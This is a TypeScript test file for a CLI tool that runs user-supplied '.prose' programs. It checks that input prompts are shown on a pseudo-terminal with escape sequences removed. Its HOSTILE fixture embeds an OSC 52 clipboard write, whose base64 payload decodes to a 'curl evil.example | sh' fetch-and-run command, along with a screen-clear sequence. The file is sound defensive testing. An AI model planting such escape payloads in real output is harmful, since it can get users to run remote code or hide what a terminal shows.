/**
 * A program may be someone else's (a registry program, a file sent over): the prompts of its inputs
 * reach the person's terminal without escape sequences, which could write the clipboard (OSC 52),
 * clear the screen or retitle the window. Asked on a terminal, said as waiting, or said as missing.
 */
import { spawn } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { reply } from "../support/fake-anthropic.js";
import { fakeServersPerTest } from "../support/fake-servers.js";
import { TEST_API_KEY, temporaryFolder } from "../runtime/helpers.js";

const serve = fakeServersPerTest();
const bin = fileURLToPath(new URL("../../bin/prosec", import.meta.url));

/** Shown as "What to research": an OSC 52 clipboard write and a screen clear hide in it. */
const HOSTILE = "What\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 to research\u001b[2J";

/** What `prosec run <args>` prints on a pseudo-terminal (`script`), answering `answer` when asked. */
async function onTerminal(cwd: string, url: string, args: string, answer?: string): Promise<string> {
  const child = spawn(
    "script",
    ["-qefc", `${JSON.stringify(process.execPath)} ${JSON.stringify(bin)} ${args}`, "/dev/null"],
    {
      cwd,
      env: { ...process.env, ANTHROPIC_API_KEY: TEST_API_KEY, ANTHROPIC_BASE_URL: url, NO_COLOR: "1", TERM: "dumb" },
      stdio: ["pipe", "pipe", "pipe"],
    },
  );
  let screen = "";
  let answered = false;
  child.stdout.on("data", (chunk: Buffer) => {
    screen += chunk.toString();
    if (answer !== undefined && !answered && /topic \(.*\): $/s.test(screen)) {
      answered = true;
      child.stdin.write(`${answer}\r`);
    }
  });
  await new Promise((resolve) => child.on("close", resolve));
  child.stdin.end();
  return screen;
}

function expectNoEscapes(screen: string): void {
  expect(screen).not.toContain("\u001b]52");
  expect(screen).not.toContain("\u001b[2J");
  expect(screen).not.toContain("Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==");
}

describe("a program's prompts on a terminal", () => {
  it("an input asked on the terminal", { timeout: 60_000 }, async () => {
    const server = await serve(() => reply.text("a report"));
    const cwd = temporaryFolder("prosec-terminal-");
    writeFileSync(join(cwd, "ask.prose"), `input topic: "${HOSTILE}"\noutput report = session "Report on {topic}"\n`);
    const screen = await onTerminal(cwd, server.url, "run ask.prose", "whales");
    expect(screen).toContain("topic (What to research): ");
    expectNoEscapes(screen);
  });

  it("an input the run waits for, and one said to be missing", { timeout: 60_000 }, async () => {
    const server = await serve(() => reply.text("a draft"));
    const cwd = temporaryFolder("prosec-terminal-");
    writeFileSync(
      join(cwd, "wait.prose"),
      `let draft = session "Write a draft"\ninput topic: "${HOSTILE}"\noutput report = topic\n`,
    );
    writeFileSync(join(cwd, "ask.prose"), `input topic: "${HOSTILE}"\noutput report = session "Report on {topic}"\n`);
    // Standard input is not a terminal (no one to ask), standard error is.
    const waiting = await onTerminal(cwd, server.url, "run wait.prose < /dev/null");
    expect(waiting).toContain('Waiting for input "topic" (What to research)');
    expectNoEscapes(waiting);
    const missing = await onTerminal(cwd, server.url, "run ask.prose < /dev/null");
    expect(missing).toContain("--input topic=... (What to research)");
    expectNoEscapes(missing);
  });
});
